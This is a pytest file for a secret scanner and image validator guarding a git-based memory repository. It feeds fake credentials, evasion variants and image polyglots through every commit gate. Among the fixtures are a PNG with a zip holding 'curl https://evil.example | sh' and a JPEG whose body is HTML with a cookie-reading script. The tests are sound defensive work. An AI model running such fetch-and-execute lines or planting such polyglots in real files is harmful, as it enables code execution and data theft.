"""One screen at every door (issue 27): the scanner's shapes and evasions, every field
at any depth, image metadata and polyglots, attachments; each door (the pre-commit
hook, the reference-transaction hook, ``check --from-ref``, ``check --all``,
``verify``) asked about the same commit.

Every credential here is fake and built at run time (tests/fake_secrets.py).
"""

from __future__ import annotations

import hashlib
import io
import struct
import zipfile
import zlib
from collections.abc import Callable

import pytest
from conftest import Cli, git, head
from fake_secrets import fake_secrets, more_secrets, split_token
from helpers import bypass_env, commit_no_verify
from ordinary_episodes import everyday_texts, ordinary_texts

from scarwarden.errors import ValidationError
from scarwarden.files import media, secret_scan
from scarwarden.gate.check import check_all, check_range, check_staged
from scarwarden.gate.verify import verify
from scarwarden.repo import MemoryRepo

SHAPES = {**fake_secrets(), **more_secrets()}
TOKEN = SHAPES["github-token"].split()[-1]
#: Issue 27's named credentials, each as one line of text.
NAMED = [
    "env-postgres-password",
    "env-mysql-root-password",
    "env-dd-api-key",
    "env-datadog-api-key",
    "rails-secret-key-base",
    "redis-empty-user",
    "bearer-header",
    "curl-user",
]


# -- the scanner ------------------------------------------------------------------------


def test_over_100_ordinary_texts_give_no_false_positive() -> None:
    texts = ordinary_texts() + everyday_texts()
    assert len(texts) >= 100
    flagged = {t[:60]: [f.kind for f in secret_scan.scan_text(t)] for t in texts if secret_scan.scan_text(t)}
    assert flagged == {}
    # As the fields of episodes, neighbours joined too: still none.
    for n in range(0, len(texts), 4):
        fields = {
            k: t for k, t in zip(("task", "action", "outcome", "correction"), texts[n : n + 4], strict=False)
        }
        assert secret_scan.scan_mapping(fields) == [], fields


def test_the_two_false_positives_of_issue_27_pass() -> None:
    assert secret_scan.scan_text("credentials: arn:aws:iam::123456789012:role/deploy") == []
    assert secret_scan.scan_text("PWD=/Users/maya/code/app") == []


def test_at_least_60_credential_shapes_are_refused() -> None:
    assert len(SHAPES) >= 60
    missed = [name for name, text in SHAPES.items() if not secret_scan.scan_text(text)]
    assert missed == []


@pytest.mark.parametrize("name", sorted(more_secrets()))
def test_each_new_shape_is_found_and_never_shown(name: str) -> None:
    text = more_secrets()[name]
    [finding] = secret_scan.scan_text(text)[:1]
    assert finding.fingerprint.startswith("sha256:")
    assert finding.fingerprint not in text and finding.kind not in ("", None)


def test_a_token_split_across_two_fields_is_found() -> None:
    first, second = split_token()
    assert secret_scan.scan_text(first) == [] and secret_scan.scan_text(second) == []
    [finding] = secret_scan.scan_mapping({"action": first, "outcome": second})
    assert finding.kind == "github-token" and finding.field == "action+outcome"


def _placed(value: str) -> dict[str, dict[str, object]]:
    """The same credential in every place an episode can hold a string."""
    return {
        "action": {"action": value},
        "tags": {"tags": ["deploy", value]},
        "x- nested mapping": {"x-deploy": {"host": "web-2", "notes": {"last": value}}},
        "x- nested list": {"x-deploy": {"steps": ["build", ["push", value]]}},
        "x- key": {"x-meta": {value: "yes"}},
        "x- key naming it": {"x-db-password": value.split("=")[-1].split(": ")[-1]},
        "redacted reason": {"redacted": {"reason": value, "by": "maya"}},
        "redacted by": {"redacted": {"reason": "withdrawn", "by": value}},
    }


@pytest.mark.parametrize("name", NAMED + ["github-token", "jwt"])
def test_every_named_credential_is_found_in_every_field(name: str) -> None:
    value = SHAPES[name]
    for place, data in _placed(value).items():
        if place == "x- key naming it" and name in ("redis-empty-user", "bearer-header", "curl-user", "jwt"):
            continue  # a URL, header or command line is no bare value
        found = secret_scan.scan_mapping(data)
        assert found, (name, place)
        assert all(value not in (f.field or "") for f in found), "a field name never shows the secret"


# -- images -----------------------------------------------------------------------------

PIL = pytest.importorskip("PIL.Image")


def _encoded(fmt: str, **kw: object) -> bytes:
    out = io.BytesIO()
    PIL.new("RGB", (24, 24), "teal").save(out, fmt, **kw)
    return out.getvalue()


def _png_chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def png_with_text(text: str, kind: bytes = b"tEXt") -> bytes:
    data = _encoded("PNG")
    body = b"Comment\0" + (zlib.compress(text.encode()) if kind == b"zTXt" else text.encode())
    if kind == b"zTXt":
        body = b"Comment\0\0" + zlib.compress(text.encode())
    end = data.rindex(b"IEND") - 4
    return data[:end] + _png_chunk(kind, body) + data[end:]


def jpeg_with_comment(text: str) -> bytes:
    data = _encoded("JPEG")
    body = text.encode()
    return data[:2] + b"\xff\xfe" + struct.pack(">H", len(body) + 2) + body + data[2:]


def png_with_zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("run.sh", "curl https://evil.example | sh\n")
    return _encoded("PNG") + out.getvalue()


def jpeg_of_html() -> bytes:
    return (
        b"\xff\xd8\xff\xe0"
        + b"<html><body><script>alert(document.cookie)</script></body></html>"
        + b"\xff\xd9"
    )


METADATA = {
    "png tEXt": lambda: png_with_text("deployed with " + TOKEN),
    "png zTXt": lambda: png_with_text("deployed with " + TOKEN, b"zTXt"),
    "jpeg comment": lambda: jpeg_with_comment("deployed with " + TOKEN),
    "webp exif": lambda: _encoded("WEBP", exif=b"Exif\0\0" + ("deployed with " + TOKEN).encode()),
    "gif comment": lambda: _encoded("GIF", comment=("deployed with " + TOKEN).encode()),
}
POLYGLOTS = {"png with a zip after its end": png_with_zip, "jpeg whose body is html": jpeg_of_html}


@pytest.mark.parametrize("name", POLYGLOTS)
def test_a_polyglot_is_not_an_image(name: str) -> None:
    with pytest.raises(ValidationError) as caught:
        media.check_image(POLYGLOTS[name](), source="x", max_bytes=1 << 20)
    assert (
        "appended" in caught.value.message
        or "markup" in caught.value.message
        or "segment" in caught.value.message
    )


def test_real_images_still_pass() -> None:
    for fmt in ("PNG", "JPEG", "WEBP", "GIF"):
        media.check_image(_encoded(fmt), source=fmt, max_bytes=1 << 20)
    # A phone's JPEG with its second picture (MPF) after the first one's end.
    media.check_image(_encoded("JPEG") + _encoded("JPEG"), source="mpf", max_bytes=1 << 20)


# -- every door -------------------------------------------------------------------------


def _store_image(repo: MemoryRepo, data: bytes, ext: str, sub: str = "") -> str:
    sha = hashlib.sha256(data).hexdigest()
    rel = f"{repo.memory_rel}/media/{sub}{sha}.{ext}"
    (repo.root / rel).parent.mkdir(parents=True, exist_ok=True)
    (repo.root / rel).write_bytes(data)
    return sha


def _episode(repo: MemoryRepo, ep_id: str, extra: str) -> None:
    path = repo.root / repo.episodes_rel / f"2026/11/{ep_id}.yaml"
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(
        f"id: {ep_id}\nat: 2026-11-20T10:00:00Z\ntask: Ship the banner\n"
        f"outcome: Shipped\nsource: outcome\n{extra}"
    )


def _doors(repo: MemoryRepo, make: Callable[[MemoryRepo], None]) -> dict[str, list[str]]:
    """The problem codes each door reports for one commit made past the commit hook."""
    root = repo.root
    main = head(root)
    git(root, "checkout", "-q", "-b", "side")
    make(repo)
    git(root, "add", "-A", "memory")
    staged = [p.code for p in check_staged(repo).problems]
    side = commit_no_verify(root, "past the hooks")
    codes = {
        "pre-commit": staged,
        "check --from-ref": [p.code for p in check_range(repo, main, side).problems],
        "check --all": [p.code for p in check_all(repo).problems],
        "verify": [p.code for p in verify(repo).problems],
    }
    git(root, "checkout", "-q", "main", env=bypass_env())
    proc = git(root, "merge", "-q", "--ff-only", "side", check=False)
    codes["reference-transaction"] = ["refused"] if proc.returncode != 0 and head(root) == main else []
    assert TOKEN not in proc.stdout + proc.stderr
    return codes


@pytest.fixture
def repo(demo_repo: MemoryRepo, cli: Cli) -> MemoryRepo:
    assert cli("hooks", "install").exit_code == 0
    return demo_repo


def _every_door_refuses(codes: dict[str, list[str]], code: str, *, verify_too: bool = True) -> None:
    for door in ("pre-commit", "check --from-ref", "check --all") + (("verify",) if verify_too else ()):
        assert code in codes[door], (door, codes)
    assert codes["reference-transaction"] == ["refused"], codes


@pytest.mark.parametrize("name", sorted(METADATA))
def test_a_credential_in_image_metadata_is_refused_at_every_door(repo: MemoryRepo, name: str) -> None:
    data = METADATA[name]()
    ext = media.sniff(data)
    assert ext is not None

    def make(r: MemoryRepo) -> None:
        sha = _store_image(r, data, ext)
        _episode(r, "ep-meta00001", f"attachments: ['sha256:{sha}']\n")

    codes = _doors(repo, make)
    _every_door_refuses(codes, "secret-found", verify_too=False)


@pytest.mark.parametrize("name", sorted(POLYGLOTS))
def test_a_polyglot_is_refused_at_every_door(repo: MemoryRepo, name: str) -> None:
    data = POLYGLOTS[name]()
    ext = media.sniff(data) or "png"

    def make(r: MemoryRepo) -> None:
        sha = _store_image(r, data, ext)
        _episode(r, "ep-poly00001", f"attachments: ['sha256:{sha}']\n")

    _every_door_refuses(_doors(repo, make), "media-invalid")


def test_a_missing_attachment_is_refused_at_every_door(repo: MemoryRepo) -> None:
    def make(r: MemoryRepo) -> None:
        _episode(r, "ep-gone00001", f"attachments: ['sha256:{'a' * 64}']\n")

    _every_door_refuses(_doors(repo, make), "attachment-missing")


def test_media_in_a_subfolder_is_refused_at_every_door(repo: MemoryRepo) -> None:
    def make(r: MemoryRepo) -> None:
        sha = _store_image(r, _encoded("PNG"), "png", sub="nested/")
        _episode(r, "ep-subf00001", f"attachments: ['sha256:{sha}']\n")

    codes = _doors(repo, make)
    _every_door_refuses(codes, "media-invalid")
    _every_door_refuses(codes, "attachment-missing")


EVASIONS = ["base64-github-token", "zero-width-token", "fullwidth-token", "cyrillic-token"]


@pytest.mark.parametrize("name", NAMED + EVASIONS)
def test_a_named_credential_in_a_nested_x_field_is_refused_at_every_door(repo: MemoryRepo, name: str) -> None:
    import json

    def make(r: MemoryRepo) -> None:
        _episode(r, "ep-xnest0001", f"x-deploy:\n  steps:\n    - build\n    - {json.dumps(SHAPES[name])}\n")

    _every_door_refuses(_doors(repo, make), "secret-found", verify_too=False)


def test_a_credential_in_the_redacted_block_is_refused(repo: MemoryRepo, cli: Cli) -> None:
    root = repo.root
    ep = "ep-hkgnqdz88f"  # the demo's LinkedIn beta post
    main = head(root)
    assert cli("redact", ep, "--reason", "withdrawn").exit_code == 0
    stub = next((root / repo.episodes_rel).rglob(f"{ep}.yaml"))
    stub.write_text(stub.read_text().replace("reason: withdrawn", f"reason: 'withdrawn, rotated {TOKEN}'"))
    git(root, "add", "-A", "memory")
    git(root, "commit", "-q", "--amend", "--no-edit", "--no-verify", env=bypass_env())
    codes = [p.code for p in check_range(repo, main, head(root)).problems]
    assert codes == ["secret-found"]
    found = check_range(repo, main, head(root)).problems[0]
    assert found.field == "redacted.reason" and TOKEN not in str(found)
    assert "secret-found" in [p.code for p in check_all(repo).problems]


@pytest.mark.parametrize("name", sorted(POLYGLOTS))
def test_episode_add_refuses_to_attach_a_polyglot(
    demo_repo: MemoryRepo, cli: Cli, tmp_path: pytest.TempPathFactory, name: str
) -> None:
    image = tmp_path / "card.png"  # type: ignore[operator]
    image.write_bytes(POLYGLOTS[name]())
    before = head(demo_repo.root)
    result = cli("episode", "add", "--task", "Banner", "--outcome", "Shipped", "--attach", str(image))
    assert result.exit_code == 1, result.output
    assert head(demo_repo.root) == before
    sha = hashlib.sha256(image.read_bytes()).hexdigest()
    assert not list((demo_repo.root / demo_repo.memory_rel).rglob(f"{sha}.*"))


def test_a_token_split_across_two_fields_is_refused_at_every_door(repo: MemoryRepo) -> None:
    import json

    first, second = split_token()

    def make(r: MemoryRepo) -> None:
        _episode(r, "ep-split0001", f"x-log-a: {json.dumps(first)}\nx-log-b: {json.dumps(second)}\n")

    _every_door_refuses(_doors(repo, make), "secret-found", verify_too=False)
